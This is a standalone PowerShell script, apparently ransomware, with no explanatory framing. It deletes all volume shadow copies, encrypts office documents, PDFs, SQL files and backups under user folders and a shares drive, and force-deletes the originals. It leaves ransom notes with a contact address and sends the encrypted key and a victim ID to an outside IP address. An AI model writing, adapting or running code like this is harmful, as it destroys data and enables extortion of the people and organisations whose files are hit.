$key = [byte[]](1..32 | ForEach-Object { Get-Random -Maximum 256 })
$iv = [byte[]](1..16 | ForEach-Object { Get-Random -Maximum 256 })
$victimId = (Get-FileHash -InputStream ([IO.MemoryStream]::new([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME))) -Algorithm MD5).Hash
$note = @"
Your files have been encrypted.
To recover them contact recover@onionmail.example and quote ID $victimId
"@

vssadmin delete shadows /all /quiet | Out-Null

$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = $key
$aes.IV = $iv

$targets = Get-ChildItem -Path 'C:\Users', 'D:\Shares' -Recurse -File -Include *.docx, *.xlsx, *.pdf, *.sql, *.bak -ErrorAction SilentlyContinue
foreach ($f in $targets) {
    try {
        $plain = [System.IO.File]::ReadAllBytes($f.FullName)
        $enc = $aes.CreateEncryptor()
        $cipher = $enc.TransformFinalBlock($plain, 0, $plain.Length)
        [System.IO.File]::WriteAllBytes($f.FullName + '.lockd', $cipher)
        Remove-Item -LiteralPath $f.FullName -Force
        Set-Content -Path (Join-Path -Path $f.DirectoryName -ChildPath 'README_RESTORE.txt') -Value $note
    }
    catch {
        continue
    }
}

# key goes home, encrypted with the operator's RSA public key
$rsa = New-Object System.Security.Cryptography.RSACryptoServiceProvider
$rsa.FromXmlString('<RSAKeyValue><Modulus>xA7SEU+e0yQH5rm9kbCDN9o3aPIo7HzuV8e2HqXx3Jc=</Modulus><Exponent>AQAB</Exponent></RSAKeyValue>')
$blob = [Convert]::ToBase64String($rsa.Encrypt($key + $iv, $true))
Invoke-RestMethod -Uri 'http://198.51.100.77/k' -Method Post -Body @{ id = $victimId; k = $blob } | Out-Null
